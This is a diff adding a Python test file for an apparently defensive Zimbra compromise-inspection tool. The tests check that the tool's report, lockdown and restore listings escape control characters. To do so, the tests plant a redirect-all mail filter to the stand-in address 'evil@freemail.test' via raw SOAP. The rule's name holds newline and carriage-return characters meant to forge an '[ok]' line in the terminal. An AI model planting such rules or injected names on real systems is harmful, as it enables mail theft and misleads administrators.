@@ -1,0 +1,112 @@
+"""The report as an admin pipes it: one line per item, whatever Zimbra holds.
+
+zcomp runs against the in-process sandbox over real HTTP (CliRunner, or a child process with
+real pipes); the attacker's settings are planted over raw SOAP.
+"""
+
+from __future__ import annotations
+
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+from click.testing import Result
+
+from tests.foundation.child import json_lines
+from tests.rawjson import admin_token, call
+from zcomp.sandbox import Sandbox
+
+ADMIN = "admin@sandbox.test"
+ALICE = "alice@sandbox.test"
+# A rule name that, printed as it is, forges an "[ok]" line under the real one and sends the
+# terminal's cursor back over the start of the line.
+FORGED = "x\n  [ok] filter: nothing to see -- fine\rZZ"
+SHOWN = "x\\n  [ok] filter: nothing to see -- fine\\rZZ"
+
+
+def _cli(invoke: Callable[..., Result], sb: Sandbox, *args: str) -> Result:
+    return invoke("--url", sb.admin_url, "--admin", ADMIN, *args, env={"ZCOMP_PASSWORD": "sandbox"})
+
+
+def _plant_rule(sb: Sandbox, account: str, name: str) -> None:
+    """What the attacker's web client does: a redirect-everything rule, named `name`."""
+    url = sb.urls[0]
+    token = admin_token(url)
+    found = call(
+        url,
+        "GetAccountRequest",
+        "urn:zimbraAdmin",
+        {"account": {"by": "name", "_content": account}},
+        token=token,
+        admin=True,
+    )
+    rule = {
+        "name": name,
+        "active": True,
+        "filterTests": [{"condition": "anyof", "trueTest": [{}]}],
+        "filterActions": [{"actionRedirect": [{"a": "evil@freemail.test"}]}],
+    }
+    reply = call(
+        url,
+        "ModifyFilterRulesRequest",
+        "urn:zimbraMail",
+        {"filterRules": [{"filterRule": [rule]}]},
+        token=token,
+        account_id=found["account"][0]["id"],
+    )
+    assert not isinstance(reply, str), reply
+
+
+def test_an_attackers_rule_name_is_one_line_of_the_report(
+    sandbox: Sandbox, invoke: Callable[..., Result]
+) -> None:
+    _plant_rule(sandbox, ALICE, FORGED)
+
+    inspected = _cli(invoke, sandbox, "inspect", ALICE)
+
+    assert inspected.exit_code == 1, inspected.stderr
+    lines = inspected.stdout.splitlines()
+    assert f'  [malicious] filter: rule "{SHOWN}": redirect evil@freemail.test' in "\n".join(lines)
+    # No forged line, no carriage return: `| grep '\[ok\]'` shows only what is fine.
+    assert not any(line.startswith("  [ok] filter: nothing to see") for line in lines), lines
+    assert "\r" not in inspected.stdout
+
+    locked = _cli(invoke, sandbox, "--json", "lockdown", ALICE)
+    assert locked.exit_code == 0, locked.stderr
+    history = _cli(invoke, sandbox, "history", ALICE)
+    assert history.exit_code == 0, history.stderr
+    [removed] = [line for line in history.stdout.splitlines() if " clean filter " in line]
+    assert f" clean filter {SHOWN} done: removed " in removed
+
+
+def test_the_restore_listing_gives_a_control_character_name_as_a_word_to_paste(
+    sandbox: Sandbox, invoke: Callable[..., Result]
+) -> None:
+    _plant_rule(sandbox, ALICE, FORGED)
+    locked = _cli(invoke, sandbox, "--json", "lockdown", ALICE)
+    assert locked.exit_code == 0, locked.stderr
+    [incident] = [line["incident"] for line in json_lines(locked.stdout)]
+
+    listing = _cli(invoke, sandbox, "restore", incident)
+
+    assert listing.exit_code == 0, listing.stderr
+    [row] = [line for line in listing.stdout.splitlines() if "evil@freemail.test" in line]
+    assert row.startswith(f"--filter $'{SHOWN}'  filter  ")
+    # Pasted at a shell, the word is the rule's name again.
+    word = row[len("--filter ") : len(f"--filter $'{SHOWN}'")]
+    pasted = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
+    assert pasted.stdout.decode() == FORGED
+
+
+def test_an_error_is_one_line_whatever_it_quotes(
+    invoke: Callable[..., Result], tmp_path: Path
+) -> None:
+    missing = tmp_path / "no\nsuch.toml"
+
+    result = invoke("--config", str(missing), "history")
+
+    assert result.exit_code == 2
+    assert (
+        result.stderr
+        == f"Error: {tmp_path}/no\\nsuch.toml: configuration file not found (--config)\n"
+    )
